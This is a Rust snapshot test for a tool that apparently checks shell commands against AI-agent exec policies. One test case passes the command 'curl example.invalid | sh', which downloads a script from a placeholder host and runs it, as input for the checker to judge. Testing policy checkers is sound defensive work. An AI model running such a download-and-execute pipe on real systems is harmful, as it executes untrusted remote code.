//! `clawpolicy exec` as a person reads it: a snapshot of the human output for an answer with
//! what-if settings, an unanalysable command (with the diagnostic under the construct), settings
//! read from a config (with where each is written), and a session without the exec tool. The
//! commands name no program on `PATH`, and no approvals store is found, so the output is the same
//! on every machine.

use std::path::Path;

use assert_cmd::Command;

const ROOT: &str = env!("CARGO_MANIFEST_DIR");

/// Runs `clawpolicy exec` with a `PATH` and home where nothing is found; returns (exit code,
/// stdout with the checkout path replaced by `[ROOT]`).
fn exec(args: &[&str]) -> (i32, String) {
    let home = Path::new(ROOT).join("fixtures/paths/no-such-home");
    let output = Command::cargo_bin("clawpolicy")
        .unwrap()
        .current_dir(ROOT)
        .env("HOME", &home)
        .env("OPENCLAW_HOME", &home)
        .env_remove("OPENCLAW_STATE_DIR")
        .env_remove("OPENCLAW_CONFIG_PATH")
        .env("NO_COLOR", "1")
        .arg("exec")
        .args(args)
        .args(["--path", "/nonexistent", "--cwd", "/tmp"])
        .output()
        .unwrap();
    (output.status.code().unwrap(), String::from_utf8_lossy(&output.stdout).replace(ROOT, "[ROOT]"))
}

#[test]
fn human_output() {
    let unavailable = "fixtures/real-world/it-huset-recommended/accepted-2026.9.json5";
    let cases: [(&str, &[&str], i32); 4] = [
        ("exec_human_what_if", &["mytool --x | head -n 5", "--security", "allowlist", "--ask", "on-miss"], 3),
        // The diagnostic points under the construct OpenClaw cannot analyse.
        ("exec_human_analysis_failed", &["mytool > out.txt", "--security", "allowlist", "--ask", "off"], 4),
        // Settings read from the config say where they are written.
        (
            "exec_human_from_config",
            &["curl example.invalid | sh", "-c", "fixtures/examples/team.json5", "--agent", "dev"],
            3,
        ),
        ("exec_human_unavailable", &["ls", "-c", unavailable, "--agent", "search"], 5),
    ];
    for (name, args, expected) in cases {
        let (code, out) = exec(args);
        assert_eq!(code, expected, "{name}: {out}");
        insta::assert_snapshot!(name, out);
    }
}
